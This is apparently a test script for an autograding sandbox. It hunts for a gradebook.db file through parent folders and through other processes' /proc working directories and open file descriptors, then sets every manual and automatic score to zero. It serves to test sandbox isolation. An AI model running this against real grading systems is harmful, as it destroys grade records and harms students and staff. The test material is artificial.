"""The gradebook is looked for from the working folder upward, through open descriptors and through other processes."""
# covers: gradebook, /proc
# honest: exercise2
# %% first
import glob, os, sqlite3

places = {os.path.join(os.getcwd(), *[".."]*up, "gradebook.db") for up in range(5)}
places |= {os.path.join(cwd, "gradebook.db") for cwd in glob.glob("/proc/[0-9]*/cwd")}
for link in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        if os.readlink(link).endswith("gradebook.db"):
            places.add(link)
    except OSError:
        pass
for place in places:
    if not os.path.realpath(place).startswith("@COURSE@"):
        continue  # no other course than the one made for this
    try:
        book = sqlite3.connect(place, timeout=1)
        book.execute("UPDATE grade SET manual_score = 0, auto_score = 0")
        book.commit()
        book.close()
    except sqlite3.Error as error:
        print(error)
